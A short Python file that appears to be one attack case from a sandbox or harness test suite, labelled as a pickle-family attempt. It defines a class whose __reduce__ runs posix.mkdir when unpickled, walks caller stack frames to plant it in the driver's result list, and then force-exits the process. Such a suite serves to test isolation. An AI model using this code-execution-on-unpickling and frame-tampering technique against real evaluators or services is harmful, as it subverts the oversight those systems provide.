# Tries: Put an object that runs code on unpickling into the driver's own result list.
# Family: pickle
# Mode: tests
# Earns: RUNS 0

import posix
import sys


class Payload:
    def __reduce__(self):
        return posix.mkdir, ("/tmp/attack-was-here-list",)


def f(x):
    frame = sys._getframe(1)
    while frame is not None:
        result = frame.f_locals.get("result")
        if hasattr(result, "append"):
            try:
                result.append(Payload())
            finally:
                posix._exit(0)
        frame = frame.f_back
    posix._exit(0)
